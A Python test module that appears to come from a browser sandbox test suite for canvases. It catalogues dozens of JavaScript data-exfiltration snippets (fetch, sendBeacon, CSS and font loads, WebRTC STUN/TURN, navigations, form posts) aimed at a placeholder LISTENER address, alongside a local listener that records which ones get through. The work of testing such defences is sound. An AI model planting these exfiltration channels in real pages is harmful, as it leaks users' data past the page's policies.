"""Ways out of a page: requests and navigations by which a hostile canvas would send data to another port.

Each way has its name in its request, so that a listener knows which one arrived. From an unprotected page
they do arrive, which proves that the listener would notice them.
"""

from __future__ import annotations

import asyncio
import contextlib
import re
from typing import TYPE_CHECKING

from tests.browser.tabs import is_firefox

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

_REQUEST = re.compile(rb"^[A-Z]+ /(?:way-)?([\w-]+)")

# All from one page. LISTENER is the address of the listener without a scheme, UDP_PORT its UDP port.
PASSIVE_WAYS: dict[str, str] = {
    "fetch": "fetch('http://LISTENER/way-fetch', {mode: 'no-cors'})",
    "fetch-keepalive": (
        "fetch('http://LISTENER/way-fetch-keepalive', {mode: 'no-cors', keepalive: true, method: 'POST', "
        "body: 'secret'})"
    ),
    "xhr": "{ const x = new XMLHttpRequest(); x.open('POST', 'http://LISTENER/way-xhr'); x.send('secret') }",
    "beacon": "navigator.sendBeacon('http://LISTENER/way-beacon', 'secret')",
    "img": "new Image().src = 'http://LISTENER/way-img'",
    "css": "add('style', {textContent: 'body { background: url(http://LISTENER/way-css) }'})",
    "css-import": "add('style', {textContent: '@import \"http://LISTENER/way-css-import\"'})",
    "font": (
        "add('style', {textContent: '@font-face { font-family: f; src: url(http://LISTENER/way-font) } body "
        "{ font-family: f }'}), add('p', {textContent: 'x'})"
    ),
    "stylesheet": "add('link', {rel: 'stylesheet', href: 'http://LISTENER/way-stylesheet'})",
    "video": "add('video', {src: 'http://LISTENER/way-video', preload: 'auto'})",
    "audio": "add('audio', {src: 'http://LISTENER/way-audio', preload: 'auto'})",
    "object": "add('object', {data: 'http://LISTENER/way-object'})",
    "embed": "add('embed', {src: 'http://LISTENER/way-embed'})",
    "iframe": "add('iframe', {src: 'http://LISTENER/way-iframe'})",
    "srcdoc": "add('iframe', {srcdoc: '<img src=http://LISTENER/way-srcdoc>'})",
    "script": "add('script', {src: 'http://LISTENER/way-script'})",
    "module": "add('script', {type: 'module', src: 'http://LISTENER/way-module'})",
    "import": "import('http://LISTENER/way-import').catch(() => {})",
    "worker": "new Worker(URL.createObjectURL(new Blob(['importScripts(\"http://LISTENER/way-worker\")'])))",
    "websocket": "new WebSocket('ws://LISTENER/way-websocket')",
    "eventsource": "new EventSource('http://LISTENER/way-eventsource')",
    "prefetch": "add('link', {rel: 'prefetch', href: 'http://LISTENER/way-prefetch'})",
    "preload": "add('link', {rel: 'preload', as: 'image', href: 'http://LISTENER/way-preload'})",
    "modulepreload": "add('link', {rel: 'modulepreload', href: 'http://LISTENER/way-modulepreload'})",
    "icon": "add('link', {rel: 'icon', href: 'http://LISTENER/way-icon'})",
    "svg-image": "svg('<image href=\"http://LISTENER/way-svg-image\" width=9 height=9 />')",
    "image-set": (
        "add('div', {style: 'width: 9px; height: 9px; background-image: "
        'image-set("http://LISTENER/way-image-set" 1x)\'})'
    ),
    "picture": "add('img', {srcset: 'http://LISTENER/way-picture 1x'})",
    "poster": "add('video', {poster: 'http://LISTENER/way-poster'})",
    "stun": "rtc('stun:127.0.0.1:UDP_PORT')",
    "turn": "rtc('turn:LISTENER?transport=tcp')",
    "preconnect": "add('link', {rel: 'preconnect', href: 'http://LISTENER/'})",
    "dns-prefetch": "add('link', {rel: 'dns-prefetch', href: 'http://LISTENER/'})",
    "ping": "add('a', {href: '#', ping: 'http://LISTENER/way-ping'}).click()",
    "speculation": (
        "add('script', {type: 'speculationrules', textContent: "
        '\'{"prefetch":[{"source":"list","urls":["http://LISTENER/way-speculation"]}]}\'})'
    ),
}
RTC_WAYS = ("stun", "turn")
# What an accepted canvas can still do in a browser that does not enforce `Connection-Allowlist`, as
# docs/guide/canvases.md says. The policy, the sandbox and `frame-src` block all other ways. The SDK removes
# WebRTC from the page, but not from a frame in it. `preconnect` is a connection without a request: by a
# link, or in Chromium by a navigation that is then blocked.
_CONNECTS = frozenset({"preconnect"})
REMAINING_IN_CHROMIUM = {
    "page": _CONNECTS,
    "inner frame": _CONNECTS,
    "WebRTC of an inner frame": frozenset(RTC_WAYS),
    "navigation": _CONNECTS,
}
REMAINING_IN_FIREFOX = {**REMAINING_IN_CHROMIUM, "navigation": frozenset[str]()}
# Ways that need not arrive in a test from an unprotected page either: a browser without a window has no icon
# and does not prefetch, and a connection in advance is used by a request.
_SILENT_WAYS = frozenset({"preconnect", "dns-prefetch", "icon", "ping", "speculation", "modulepreload"})
_SILENT_IN_CHROMIUM = frozenset({"fetch-keepalive"})
_SILENT_IN_FIREFOX = frozenset({"prefetch"})


def remaining_ways(place: str, *, enforces_allowlist: bool) -> frozenset[str]:
    """Return the ways out of an accepted canvas's page that remain in this browser."""
    if enforces_allowlist:
        return frozenset()
    return (REMAINING_IN_FIREFOX if is_firefox() else REMAINING_IN_CHROMIUM)[place]


def silent_ways() -> frozenset[str]:
    """Return the ways that need not arrive from an unprotected page in this browser."""
    return _SILENT_WAYS | (_SILENT_IN_FIREFOX if is_firefox() else _SILENT_IN_CHROMIUM)


# Each in a page of its own, because it leaves the page.
NAVIGATION_WAYS: dict[str, str] = {
    "location": "location.href = 'http://LISTENER/way-location?secret'",
    "replace": "location.replace('http://LISTENER/way-replace?secret')",
    "top": "top.location = 'http://LISTENER/way-top?secret'",
    "parent": "parent.location = 'http://LISTENER/way-parent?secret'",
    "refresh": "add('meta', {httpEquiv: 'refresh', content: '0; url=http://LISTENER/way-refresh?secret'})",
    "form": "submit('GET', '_self')",
    "form-post": "submit('POST', '_self')",
    "form-top": "submit('POST', '_top')",
    "form-blank": "submit('POST', '_blank')",
    "open": "window.open('http://LISTENER/way-open?secret')",
    "link": "add('a', {href: 'http://LISTENER/way-link?secret', textContent: 'x'}).click()",
    "link-blank": (
        "add('a', {href: 'http://LISTENER/way-link-blank', target: '_blank', textContent: 'x'}).click()"
    ),
    "link-top": "add('a', {href: 'http://LISTENER/way-link-top', target: '_top', textContent: 'x'}).click()",
    "download": "add('a', {href: 'http://LISTENER/way-download', download: 'x', textContent: 'x'}).click()",
    "document-open": "window.open('http://LISTENER/way-document-open', '_self')",
}

_TOOLS = """
const add = (tag, more) => {
  const made = document.createElement(tag);
  Object.assign(made, more);
  for (const [name, value] of Object.entries(more)) {
    if (name === 'ping' || name === 'as') made.setAttribute(name, value);
  }
  document.body.append(made);
  return made;
};
const svg = (inner) => {
  document.body.insertAdjacentHTML('beforeend', `<svg width=20 height=20>${inner}</svg>`);
};
const submit = (method, target) => {
  const form = add('form', {method, target, action: 'http://LISTENER/way-form?secret'});
  add('input', {name: 'secret', value: 'x'});
  form.submit();
};
const rtc = (urls) => {
  const peer = new RTCPeerConnection({iceServers: [{urls, username: 'u', credential: 'c'}]});
  peer.createDataChannel('x');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  (window.peers ??= []).push(peer);
};
"""


def script(ways: dict[str, str], listener: Listener) -> str:
    """Return a script that tries all ways, also after a failure, and then sets `hasTried`."""
    lines = "\n".join(
        f"try {{ {way} }} catch (problem) {{ tried.push('{name}: ' + problem.name) }}"
        for name, way in ways.items()
    )
    text = f"{_TOOLS}\nwindow.tried = [];\n{lines}\nwindow.hasTried = true;"
    return text.replace("LISTENER", listener.address).replace("UDP_PORT", str(listener.udp_port))


class Listener:
    """A TCP and UDP server that records the name of each way that reaches it."""

    def __init__(self) -> None:
        self.received: list[str] = []
        self.writers: set[asyncio.StreamWriter] = set()
        self.address = ""
        self.udp_port = 0

    def ways(self) -> set[str]:
        return set(self.received)

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        index = len(self.received)
        self.writers.add(writer)
        self.received.append("preconnect")  # until a request arrives on the connection
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            data = await reader.read(2000)
            found = _REQUEST.match(data)
            self.received[index] = found[1].decode() if found else "turn" if data else "preconnect"
            writer.write(
                b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\naccess-control-allow-origin: *\r\nconnection: "
                b"close\r\n\r\n"
            )
            await writer.drain()
        writer.close()


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, listener: Listener) -> None:
        self._listener = listener

    def datagram_received(self, data: bytes, addr: object) -> None:
        self._listener.received.append("stun")


@contextlib.asynccontextmanager
async def listen() -> AsyncIterator[Listener]:
    listener = Listener()
    server = await asyncio.start_server(listener.handle, "127.0.0.1", 0)
    listener.address = f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
    datagrams, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        lambda: _Datagrams(listener), local_addr=("127.0.0.1", 0)
    )
    listener.udp_port = datagrams.get_extra_info("sockname")[1]
    try:
        yield listener
    finally:
        server.close()
        datagrams.close()
        for writer in listener.writers:  # a browser may keep a connection open
            writer.transport.abort()


@contextlib.asynccontextmanager
async def serve_unprotected(html: str, headers: str = "") -> AsyncIterator[str]:
    """Serve a page without the headers of Easel, only with these, and yield its address."""
    writers: set[asyncio.StreamWriter] = set()

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writers.add(writer)
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            await reader.readuntil(b"\r\n\r\n")
            body = html.encode()
            writer.write(
                b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n%scontent-length: "
                b"%d\r\n\r\n%s" % (headers.encode(), len(body), body)
            )
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    try:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/"
    finally:
        server.close()
        for writer in writers:
            writer.transport.abort()
